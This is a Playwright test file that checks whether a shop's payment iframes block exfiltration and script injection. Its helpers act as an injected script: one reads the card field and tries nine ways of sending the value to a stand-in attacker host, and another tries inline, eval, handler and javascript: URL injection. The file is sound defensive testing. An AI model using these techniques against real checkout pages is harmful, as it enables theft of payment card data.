import type { Frame } from '@playwright/test';
import { attackerOrigin, test, type World } from './world/fixtures.ts';
import { alsoEarly, prove } from './world/proof.ts';
import { fieldOf, openShop, typeCard } from './world/shop.ts';

test.describe.configure({ mode: 'parallel' });

/** A script that has found its way into a frame, and every way to send something from there. */
const sendFrom = (frame: Frame, to: string) =>
  frame.evaluate(async (address) => {
    const value = document.querySelector('input')?.value ?? '';
    const url = (way: string) => `${address}/${way}?value=${encodeURIComponent(value)}`;
    const ended = (target: EventTarget, names = ['load', 'error', 'loadend']) =>
      new Promise((resolve) => {
        for (const name of names) target.addEventListener(name, resolve);
      });
    const refused = () => ended(document, ['securitypolicyviolation']);
    const insert = (name: string, attributes: Record<string, string>) => {
      const element = document.createElement(name);
      for (const [key, text] of Object.entries(attributes)) element.setAttribute(key, text);
      const done = ended(element);
      document.body.append(element);
      return done;
    };
    const ways: (() => unknown)[] = [
      () => fetch(url('fetch'), { method: 'POST', mode: 'no-cors', body: value }),
      () => navigator.sendBeacon(url('beacon'), value),
      () => {
        const request = new XMLHttpRequest();
        request.open('GET', url('request'));
        request.send();
        return ended(request);
      },
      () => ended(new WebSocket(url('socket').replace('http', 'ws'))),
      () => ended(new EventSource(url('source'))),
      () => insert('img', { src: url('image') }),
      () => insert('link', { rel: 'stylesheet', href: url('style') }),
      () => insert('iframe', { src: url('frame'), name: 'inner' }),
      () => {
        const form = document.createElement('form');
        const done = ended(document.querySelector('iframe') ?? window);
        Object.assign(form, { action: url('form'), target: 'inner', method: 'post' });
        document.body.append(form);
        form.submit();
        return Promise.race([done, refused()]);
      },
    ];
    for (const send of ways) {
      try {
        await send();
      } catch {
        // Refused: what arrives is counted.
      }
    }
  }, to);

/** The ways on which the attacker's host was reached. A socket is asked of the proxy first, which tells no path. */
const arrived = ({ requests }: World): string[] =>
  [
    ...new Set(
      requests
        .filter(({ url }) => url.hostname === 'attacker.localhost')
        .map(({ method, url }) => (method === 'CONNECT' ? '/socket' : url.pathname)),
    ),
  ].sort();

alsoEarly(() => {
  prove('case 9: what runs in a frame, however it got there, sends nothing to anybody else', {
    guard: 'a frame has a policy',
    attack: async (world) => {
      const page = await openShop(world);
      await typeCard(page);
      await sendFrom(await fieldOf(page, 'number'), attackerOrigin);
      return arrived(world);
    },
    held: [],
    fallen: ['/beacon', '/fetch', '/form', '/frame', '/image', '/request', '/socket', '/source', '/style'],
  });
});

/** What a script that got as far as the markup of a frame would try next. Gives the ways that ran. */
const runIn = (frame: Frame, from: string) =>
  frame.evaluate(async (address) => {
    const seen = new Set<string>();
    /** Refusals are thrown, or told to the document; what ran is counted. */
    const attempt = (run: (done: (way?: unknown) => void) => void) =>
      new Promise<void>((resolve) => {
        const done = (way?: unknown) => {
          if (typeof way === 'string') seen.add(way);
          document.removeEventListener('securitypolicyviolation', refused);
          resolve();
        };
        const refused = ({ effectiveDirective }: SecurityPolicyViolationEvent) => {
          if (/^script-src|^require-trusted-types-for/.test(effectiveDirective)) done();
        };
        document.addEventListener('securitypolicyviolation', refused);
        Object.assign(window, { ran: done });
        // In a task of its own: the browser lets evaluated scripts of its developers' tools do more.
        setTimeout(() => {
          try {
            run(done);
          } catch {
            done();
          }
        });
      });
    await attempt((done) => {
      const script = document.createElement('script');
      script.append('ran("inline script")');
      document.head.append(script);
      done();
    });
    await attempt((done) => {
      const script = document.createElement('script');
      script.addEventListener('error', done);
      script.src = `${address}/ran.js`;
      document.head.append(script);
    });
    await attempt(() => new Function('ran("function")')());
    // biome-ignore lint/security/noGlobalEval: to see that a frame has none.
    await attempt(() => globalThis.eval('ran("eval")'));
    await attempt(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:,x" onerror="ran(\'handler\')">');
    });
    await attempt(() => {
      const link = document.createElement('a');
      link.href = 'javascript:void ran("address")';
      document.body.append(link);
      link.click();
    });
    return [...seen];
  }, from);

const inject = async (world: World): Promise<string[]> => {
  world.alter(({ url }, answer) =>
    url.pathname === '/ran.js'
      ? {
          status: 200,
          headers: { 'content-type': 'text/javascript', 'cross-origin-resource-policy': 'cross-origin' },
          body: 'ran("external script")',
        }
      : answer,
  );
  return runIn(await fieldOf(await openShop(world), 'number'), attackerOrigin);
};

const allWays = ['inline script', 'external script', 'function', 'eval', 'handler', 'address'];

alsoEarly(() => {
  prove('case 17: markup and addresses that reach a frame run no script there, by its policy for scripts', {
    lacking: ['a frame makes no markup of text'],
    guard: 'a frame runs its own script',
    attack: inject,
    held: [],
    fallen: allWays,
  });

  prove('case 17: markup and addresses that reach a frame run no script there, by its trusted types', {
    lacking: ['a frame runs its own script'],
    guard: 'a frame makes no markup of text',
    attack: inject,
    held: [],
    fallen: allWays,
  });
});
